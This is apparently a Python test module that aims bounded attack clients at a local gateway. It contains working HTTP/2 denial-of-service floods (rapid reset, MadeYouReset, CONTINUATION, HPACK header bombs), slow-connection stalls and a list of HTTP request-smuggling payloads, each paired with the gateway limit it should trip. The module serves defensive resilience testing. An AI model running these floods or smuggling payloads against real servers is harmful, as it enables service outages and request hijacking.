"""Clients that mean harm, on the loopback, and bounded in number and time. test_attacks.py runs each for a moment,
tests/measure/attacks.py for as long as it is told.

An attack is a function of a port and of the time at which it is to end; it gives how many connections it has made. The
gateway is expected to serve UserService, with SayHello at /v1/hello/{name}.
"""

import collections
import itertools
import select
import socket
import struct
import time

import h2
import harness

# Of connections that one attack holds open at a time.
CONNECTIONS = 100
# What a connection is sent at most, in pieces.
PIECES = 2000


def is_over(client):
    return client.closed or client.goaway is not None


def flood(pieces, patience=10):
    """An attack of one HTTP/2 connection after the other, each sent what `pieces(client)` yields until it is ended; the
    first has `patience` seconds more."""

    def attack(port, until):
        count = 0
        while time.monotonic() < until:
            count += 1
            with h2.Client(port) as client:
                client.settle()
                client.socket.settimeout(2)
                last = until + patience if count == 1 else until
                for data in itertools.islice(pieces(client), PIECES):
                    if time.monotonic() > last or not send(client, data) or is_over(client):
                        break
                    client.read_some(0)
        return count

    return attack


def send(client, data):
    try:
        return client.send_raw(data)
    except TimeoutError:
        return False


# --- floods ---


def rapid_reset(client):
    """CVE-2023-44487."""
    while True:
        data = b""
        for _ in range(100):
            stream, request = client.request_frames("/v1/hello/reset")
            data += request + h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big"))
        yield data


def made_you_reset(client):
    """CVE-2025-8671: frames after which it is the server that resets; below the limit of concurrent streams."""
    more = [("content-length", "5"), ("content-type", "application/json")]
    provocations = itertools.cycle([
        lambda stream: h2.frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)),
        lambda stream: h2.frame(h2.HEADERS, 5, stream, h2.hpack([("X", "1")])),
        lambda stream: h2.frame(h2.DATA, 0, stream, b"123456"),
    ])
    while True:
        data = b""
        for _ in range(50):
            stream, request = client.request_frames("/v1/users", "POST", more, end=False)
            data += request + next(provocations)(stream)
        yield data
        while client.answers[stream].reset is None and not is_over(client) and client.read_some(1):
            pass


def continuation(client):
    yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.hpack(client.headers()))
    while True:
        yield h2.frame(h2.CONTINUATION, 0, 1) * 100


def large_continuation(client):
    yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.hpack(client.headers()))
    while True:
        yield h2.frame(h2.CONTINUATION, 0, 1, h2.hpack([("x-a", "b" * 16000)]))


def header_bomb(client):
    """One entry in the table, and a block of nothing but references to it."""
    yield h2.frame(h2.HEADERS, 5, client.next_stream(), h2.hpack(client.headers()) +
                   h2.hpack([("x-bomb", "b" * 3900)], indexed=True))
    while True:
        yield h2.frame(h2.HEADERS, 5, client.next_stream(), h2.hpack(client.headers()) + b"\xbe" * 12000)


def quiet_header_bomb(client):
    """The same within the limits, and requests that do not end."""
    yield h2.frame(h2.HEADERS, 5, client.next_stream(), h2.hpack(client.headers()) +
                   h2.hpack([("x-bomb", "b" * 450)], indexed=True))
    more = [("content-type", "application/json")]
    for _ in range(100):
        yield h2.frame(h2.HEADERS, h2.END_HEADERS, client.next_stream(),
                       h2.hpack(client.headers("/v1/users", "POST", more)) + b"\xbe" * 95)
    while True:
        time.sleep(0.1)
        yield b""


def settings(client):
    while True:
        yield client.settings_frame([(h2.INITIAL_WINDOW_SIZE, 1000)] * 10) * 50


def pings(client):
    del client
    while True:
        yield h2.frame(h2.PING, 0, 0, b"12345678") * 100


def empty_frames(client):
    stream = client.request("/v1/users", "POST", end=False)
    while True:
        yield (h2.frame(h2.DATA, 0, stream) + h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) +
               h2.frame(h2.PRIORITY, 0, 99, struct.pack(">IB", 0, 1)) + h2.frame(0xEE, 0, 0, b"x")) * 25


def unread_pings(port, until):
    """Has the gateway queue answers that nobody reads."""
    count = 0
    while time.monotonic() < until:
        count += 1
        with h2.Client(port, buffer=4096) as client:
            client.socket.settimeout(0.2)
            for _ in range(PIECES):
                if time.monotonic() > until or not send(client, h2.frame(h2.PING, 0, 0, b"12345678") * 100):
                    break
    return count


# --- stalls ---


def zero_window(port, until):
    """Answers of 15 KB that are not let go."""
    path, count = "/v1/hello/" + "x" * 15_000, 0
    while time.monotonic() < until:
        clients = [h2.Client(port, settings=[(h2.INITIAL_WINDOW_SIZE, 0)], window=False) for _ in range(5)]
        count += len(clients)
        for client in clients:
            client.settle()
            for _ in range(100):
                client.request(path)
        while time.monotonic() < until and not all(is_stopped(client) for client in clients):
            time.sleep(0.05)
        for client in clients:
            client.socket.close()
    return count


def is_stopped(client):
    client.read_some(0)
    return client.closed or all(answer.is_over() for stream, answer in client.answers.items() if stream)


class Dripper:
    """A connection that sends a little every now and then."""

    def __init__(self, port, first):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket.sendall(first)

    def goes_on(self, piece):
        """Sends a piece; false when the other side has had enough."""
        try:
            self.socket.sendall(piece)
            while select.select([self.socket], [], [], 0)[0]:
                if not self.socket.recv(65536):
                    return False
            return True
        except OSError:
            return False


def drip(first, piece):
    """An attack of many slow connections; those that are closed are made anew."""

    def attack(port, until):
        count, open_ones = 0, []
        while time.monotonic() < until:
            while len(open_ones) < CONNECTIONS:
                open_ones.append(Dripper(port, first))
                count += 1
            time.sleep(0.05)
            going = [one for one in open_ones if one.goes_on(piece)]
            for one in set(open_ones) - set(going):
                one.socket.close()
            open_ones = going
        for one in open_ones:
            one.socket.close()
        return count

    return attack


H1_POST = b"POST /v1/users HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
H2_START = h2.PREFACE + h2.Client.settings_frame() + h2.frame(h2.SETTINGS, h2.ACK, 0)
H2_FIELD = h2.hpack([("a", "b")])
H2_POST = h2.hpack([*h2.Client.headers("/v1/users", "POST"), ("content-type", "application/json")])

# --- request smuggling ---

HELLO = b"GET /v1/hello/x HTTP/1.1\r\nHost: x\r\n"
CHUNK = b"2\r\n{}\r\n0\r\n\r\n"
# What a request of ours or of a front proxy's is to be mistaken for.
SMUGGLED = b"GET /v1/hello/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"


CHUNKED = b"Transfer-Encoding: chunked"


def framed(*headers, body=CHUNK):
    return H1_POST + b"".join(header + b"\r\n" for header in headers) + b"\r\n" + body


# Forms that two parsers may understand differently: each is 400, and the last of its connection.
SMUGGLING = {
    "Content-Length and Transfer-Encoding": framed(b"Content-Length: 4", b"Transfer-Encoding: chunked"),
    "Transfer-Encoding and Content-Length": framed(b"Transfer-Encoding: chunked", b"Content-Length: 4"),
    "two lengths": framed(b"Content-Length: 2", b"Content-Length: 12"),
    "two equal lengths": framed(b"Content-Length: 2", b"Content-Length: 2"),
    "a list of lengths": framed(b"Content-Length: 2, 12"),
    "a length with a sign": framed(b"Content-Length: +2"),
    "a hexadecimal length": framed(b"Content-Length: 0x2"),
    "an empty length": framed(b"Content-Length:"),
    "a length in two words": framed(b"Content-Length: 1 2"),
    "a space before the colon": framed(b"Content-Length: 2", b"Transfer-Encoding : chunked"),
    "a tab before the colon": framed(b"Content-Length: 2", b"Transfer-Encoding\t: chunked"),
    "a vertical tab in the value": framed(b"Transfer-Encoding:\x0bchunked"),
    "another encoding": framed(b"Transfer-Encoding: xchunked"),
    "chunked and another": framed(b"Transfer-Encoding: chunked, identity"),
    "another and chunked": framed(b"Transfer-Encoding: identity, chunked"),
    "chunked twice": framed(b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked"),
    "a quoted encoding": framed(b'Transfer-Encoding: "chunked"'),
    "behind a bare CR": framed(b"Content-Length: 2", b"X: y\rTransfer-Encoding: chunked"),
    "behind a bare LF": framed(b"Content-Length: 2", b"X: y\nTransfer-Encoding: chunked"),
    "a CR before the line's end": framed(b"X: y\r", b"Content-Length: 2"),
    "behind a NUL": framed(b"Content-Length: 2", b"X: y\0Transfer-Encoding: chunked"),
    "a folded line": framed(b"Transfer-Encoding:", b" chunked"),
    "a folded first line": framed()[:-4].replace(b"Host", b" Content-Length: 2\r\nHost") + b"\r\n",
    "an empty name": framed(b"Content-Length: 2", b": x"),
    "no colon": framed(b"Content-Length: 2", b"Transfer-Encoding chunked"),
    "chunks in HTTP/1.0": framed(b"Transfer-Encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0"),
    "a chunk's size with 0x": framed(CHUNKED, body=b"0x2\r\n{}\r\n0\r\n\r\n"),
    "a chunk's size of two": framed(CHUNKED, body=b"2 3\r\n{}\r\n0\r\n\r\n"),
    "a bare LF behind a chunk's size": framed(CHUNKED, body=b"2\n{}\r\n0\r\n\r\n"),
    "a bare LF in an extension": framed(CHUNKED, body=b"2;a\n{}\r\n0\r\n\r\n"),
    "a bare CR in an extension": framed(CHUNKED, body=b"2;a\rb\r\n{}\r\n0\r\n\r\n"),
    "a bare LF behind a chunk": framed(CHUNKED, body=b"2\r\n{}\n0\r\n\r\n"),
    "two CR behind a chunk": framed(CHUNKED, body=b"2\r\n{}\r\r\n0\r\n\r\n"),
    "a trailer that is a request": framed(CHUNKED, body=b"2\r\n{}\r\n0\r\n") + SMUGGLED,
    "a bare LF behind a trailer": framed(CHUNKED, body=b"2\r\n{}\r\n0\r\na: b\n\r\n"),
    "a bare LF as the body's end": framed(CHUNKED, body=b"2\r\n{}\r\n0\r\n\n"),
    "a chunk's size with a sign": framed(CHUNKED, body=b"-2\r\n{}\r\n0\r\n\r\n"),
    "a chunk's size that overflows": framed(CHUNKED, body=b"1" + b"0" * 16 + b"2\r\n{}\r\n0\r\n\r\n"),
    "bytes behind a chunk": framed(CHUNKED, body=b"2\r\n{}xx0\r\n\r\n"),
    "no Host": HELLO.replace(b"Host: x\r\n", b"") + b"\r\n",
    "two Hosts": HELLO + b"Host: y\r\n\r\n",
    "two equal Hosts": HELLO + b"Host: x\r\n\r\n",
    "HTTP/1.9": framed(b"Content-Length: 2").replace(b"HTTP/1.1", b"HTTP/1.9"),
    "HTTP/0.9": framed(b"Content-Length: 2").replace(b"HTTP/1.1", b"HTTP/0.9"),
    "HTTP/1.11": framed(b"Content-Length: 2").replace(b"HTTP/1.1", b"HTTP/1.11"),
    "a bare LF as the head's end": HELLO.replace(b"\r\n", b"\n") + b"\n",
}


def smuggle(port, form):
    """What is answered to it, and to the request behind it, until the connection ends."""
    with harness.RawClient(port) as client:
        client.send(form + SMUGGLED)
        return list(iter(client.response, None))


def smuggling(port, until):
    count = 0
    for form in itertools.cycle(SMUGGLING.values()):
        if time.monotonic() > until:
            return count
        smuggle(port, form)
        count += 1


# --- a client without harm, to compare with ---


def ordinary(port, until):
    with h2.Client(port) as client:
        while time.monotonic() < until:
            for stream in [client.request("/v1/hello/x") for _ in range(50)]:
                client.answer(stream)
            client.frames.clear()
            client.answers.clear()
    return 1


def limits(gateway):
    """How often each was met so far."""
    metrics = gateway.metrics()
    return collections.Counter({labels["limit"]: int(metrics.value("http_limits_total", **labels))
                                for labels in metrics.series("http_limits_total")})


class Attack:
    """`limit` is the one of http_limits_total that is to answer, None where none has to: each answer is then an
    ordinary one, or an error of the protocol. `waits`: for a time limit."""

    def __init__(self, run, limit, waits=False):
        self.run, self.limit, self.waits = run, limit, waits


ATTACKS = {
    "rapid reset": Attack(flood(rapid_reset), "early_resets"),
    "MadeYouReset": Attack(flood(made_you_reset), "early_resets"),
    "CONTINUATION, empty": Attack(flood(continuation), "control_frames"),
    "CONTINUATION, large": Attack(flood(large_continuation), "control_frames"),
    "header bomb by HPACK": Attack(flood(header_bomb), "headers"),
    "header bombs within the limits": Attack(flood(quiet_header_bomb, patience=0), None, waits=True),
    "SETTINGS": Attack(flood(settings), "control_frames"),
    "PING": Attack(flood(pings), "control_frames"),
    "PING, answers unread": Attack(unread_pings, "control_frames"),
    "empty DATA and the like": Attack(flood(empty_frames), "control_frames"),
    "zero window": Attack(zero_window, "write_timeout", waits=True),
    "slow headers, HTTP/1.1": Attack(drip(HELLO, b"a: b\r\n"), "header_timeout", waits=True),
    "slow headers, HTTP/2": Attack(drip(H2_START + h2.frame(h2.HEADERS, 5, 1, bytes(16384))[:9] + H2_POST, H2_FIELD),
                                   "header_timeout", waits=True),
    "slow bodies, HTTP/1.1": Attack(drip(H1_POST + b"Content-Length: 9999\r\n\r\n", b" "), "body_timeout", waits=True),
    "slow bodies, HTTP/2": Attack(drip(H2_START + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, H2_POST),
                                       h2.frame(h2.DATA, 0, 1, b" ")), "body_timeout", waits=True),
    "connections that say nothing": Attack(drip(b"", b""), "header_timeout", waits=True),
    "request smuggling": Attack(smuggling, None),
}
